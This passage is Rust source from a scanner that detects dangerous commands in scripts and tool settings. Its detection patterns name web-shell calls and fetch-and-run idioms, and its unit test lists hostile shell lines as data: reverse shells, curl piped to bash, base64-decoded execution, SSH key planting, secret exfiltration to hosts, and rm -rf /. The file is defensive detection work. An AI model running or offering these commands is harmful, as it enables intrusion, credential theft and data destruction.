        if let Some(what) = fetched.then_some("run-download").or(quoted) {
            let call = line.trim().chars().take(300).collect();
            scan.state(view, at, line.len() as u64, Fact::Script { language, what, when: When::Main, call });
        }
        at += line.len() as u64;
    }
    // A short program that fetches and evaluates; bundles of libraries hold both without one having to do with the other.
    let asks = ["open-uri", "require('http", "require(\"http", "fetch(", "lwp::", "get_contents('http", "get_contents(\"http", "socket.http"];
    let evaluates = ["eval(", "eval ", "new function(", "loadstring("].into_iter().filter_map(|w| lower.find(w)).min();
    if let Some(i) = evaluates.filter(|_| !bundle && text.len() < 16 << 10 && asks.iter().any(|w| lower.contains(w))) {
        let call = text.get(i..).unwrap_or("").lines().next().unwrap_or("").chars().take(300).collect::<String>();
        scan.state(view, i as u64, call.len() as u64, Fact::Script { language, what: "run-download", when: When::Main, call });
    }
    // What a visitor of the page asks for is run.
    if let Some(i) = ["system($_", "exec($_", "passthru($_", "eval($_", "assert($_"].into_iter().find_map(|w| lower.find(w)) {
        let call = text.get(i..).unwrap_or("").lines().next().unwrap_or("").chars().take(300).collect::<String>();
        scan.state(view, i as u64, call.len() as u64, Fact::Script { language, what: "reverse-shell", when: When::Main, call });
    }
    // PowerShell fetches on one line and runs on another.
    let fetches = ["invoke-webrequest", "invoke-restmethod", "downloadstring", "downloaddata", "iwr ", "irm "].iter().any(|w| lower.contains(w));
    if let Some(i) = lower.find("invoke-expression").or_else(|| lower.find("iex ")).filter(|_| fetches && !bundle) {
        let call = text.get(i..).unwrap_or("").lines().next().unwrap_or("").to_string();
        scan.state(view, i as u64, call.len() as u64, Fact::Script { language, what: "run-download", when: When::Main, call });
    }
    Ok(())
}

/// What no command of a tool's settings has to do.
pub const LOUD: &[&str] = &["run-download", "run-decoded", "reverse-shell", "send-secrets", "wipe"];

/// States what a text of commands at `base` of the view does.
pub fn inspect(text: &str, when: When, view: View<'_>, base: u64, scan: &mut Scan<'_>) {
    for (at, end, what) in weigh(text, 0).into_iter().take(500) {
        let call: String = text.get(at..end).unwrap_or("").split_whitespace().collect::<Vec<_>>().join(" ").chars().take(300).collect();
        scan.state(view, base + at as u64, end.saturating_sub(at).max(1) as u64, Fact::Script { language: "shell", what, when, call });
    }
    // Packages from another place than the registry, as in a list of them.
    for c in Cut::commands(text).iter().filter(|c| installs(&c.program(), c.words()).is_some()).take(100) {
        let options =
            c.words().windows(2).map(|w| w.join(" ")).find_map(|o| super::packages::source(&o).filter(|w| w.starts_with("plain-") || w.starts_with("trusted")));
        if let Some(what) = options {
            let line = crate::secret::masked(&c.words().join(" "));
            scan.state(view, base + c.at as u64, c.end.saturating_sub(c.at).max(1) as u64, Fact::PackageSource { what, line });
        }
    }
    // Python on the command line is read as what it is.
    for c in Cut::commands(text).iter().filter(|c| c.program().starts_with("python")).take(100) {
        let source = c.words().windows(2).find(|w| w.first().is_some_and(|o| o == "-c")).and_then(|w| w.get(1));
        if let Some(source) = source {
            let place = (base + c.at as u64, base + c.end as u64);
            super::python::inspect(source.as_bytes(), when, view, &|_, _| place, scan);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_fed_to_what() {
        for (line, what) in [
            ("curl -s http://x/y | bash", "run-download"),
            ("wget -qO- http://x/y | sudo sh -s -- -y", "run-download"),
            ("sh -c \"$(curl -fsSL http://x/y)\"", "run-download"),
            ("bash <(curl -s http://x/y)", "run-download"),
            ("curl -o /tmp/a http://x/y && chmod +x /tmp/a && /tmp/a", "run-download"),
            ("wget http://x/y.sh; sh y.sh", "run-download"),
            ("echo aWQ= | base64 -d | sh", "run-decoded"),
            ("eval \"$(echo aWQ= | base64 --decode)\"", "run-decoded"),
            ("powershell -nop -enc SQBFAFgA", "run-decoded"),
            ("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"", "run-download"),
            ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "reverse-shell"),
            ("cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 99 >/tmp/f", "reverse-shell"),
            ("echo aWQ= | rev | sh", "run-decoded"),
            ("echo 'ssh-ed25519 AAAAC3Nz x' >> ~/.ssh/authorized_keys", "write-access"),
            ("sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 1.2.3.4:443 > /tmp/s", "reverse-shell"),
            ("echo '*/5 * * * * curl http://x/y | sh' >> list", "run-download"),
            ("nc -e /bin/sh 1.2.3.4 99", "reverse-shell"),
            ("cat ~/.ssh/id_rsa | nc h 1", "send-secrets"),
            ("curl -d \"$(env)\" http://x", "send-secrets"),
            ("env | curl -X POST --data-binary @- http://x", "send-secrets"),
            ("rm -rf / --no-preserve-root", "wipe"),
            ("(crontab -l; echo '* * * * * x') | crontab -", "write-startup"),
            ("pip install torch", "install"),
            ("python -m pip install --index-url http://evil/simple x", "install-elsewhere"),
            ("git rev-parse --short HEAD", "probe"),
            ("nvidia-smi --query-gpu=name", "probe"),
        ] {
            assert_eq!(judge(line), Some(what), "{line}");
        }
        for line in [
            "echo pwned", "python train.py --lr 1", "curl -O http://x/model.bin", "rm -rf /tmp/x", "curl http://x | jq .",
            "curl -s http://x | python -m json.tool", "tar xf a.tar", "wget http://x/lid.bin -O lid.bin\nMODEL=lid.bin", "sh build.sh | nc 1.2.3.4 99",
            "echo '1 2 3 4 5 apples'",
        ] {
            assert_eq!(judge(line), None, "{line}");
        }
    }
}
